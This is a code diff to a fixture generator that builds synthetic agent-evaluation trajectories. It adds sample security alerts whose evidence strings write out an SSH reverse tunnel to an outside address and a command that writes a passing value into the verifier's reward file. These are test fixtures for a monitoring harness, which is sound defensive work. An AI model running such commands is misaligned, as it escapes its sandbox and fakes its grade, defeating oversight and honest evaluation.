@@ -1,5 +1,6 @@
 /** Plausible made-up trajectories and runs, the same ones for the same seed: for tests, benchmarks and looking at pages. */
 
+import type { Alert } from "../src/core/alerts.ts";
 import type { EvaluationSummary } from "../src/core/events.ts";
 import { Rng } from "../src/core/rng.ts";
 import { wilsonInterval } from "../src/core/statistics.ts";
@@ -60,6 +61,10 @@ export function sampleTrajectory(options: SampleTrajectory, rng = new Rng(option
     ...(failure === "command_timeout" && !options.solved ? { error: "command passed its limit of 2 s" } : {}),
     isolation: "root+mount+pid+net+cgroup2",
     grading: "clean",
+    // Every ninth instance's first attempt, so that others differ in nothing from before there were guards.
+    ...(options.split === "train" &&
+      options.member === 0 &&
+      options.seed % 9 === 4 && { alerts: sampleAlerts(options) }),
     startedAt: 1_795_000_000_000 + options.seed,
     phases: {
       reset: 2 + rng.next() * 4,
@@ -68,6 +73,16 @@ export function sampleTrajectory(options: SampleTrajectory, rng = new Rng(option
       grade: 8 + rng.next() * 9,
     },
   };
+}
+
+function sampleAlerts({ seed }: SampleTrajectory): Alert[] {
+  const at = 1_795_000_000_000 + seed;
+  const tunnel = "ssh -R forwards: ssh -N -R 8022:localhost:22 u@203.0.113.9";
+  const planted = "writes to /logs/verifier/reward.txt: echo 1 > /logs/verifier/reward.txt";
+  return [
+    { kind: "protected_write", at, turn: 0, evidence: planted, action: "alert" },
+    ...(seed % 2 === 0 ? [{ kind: "tunnel", at: at + 900, turn: 1, evidence: tunnel, action: "stop" } as const] : []),
+  ];
 }
 
 function sampleTurn(index: number, rng: Rng): Turn {
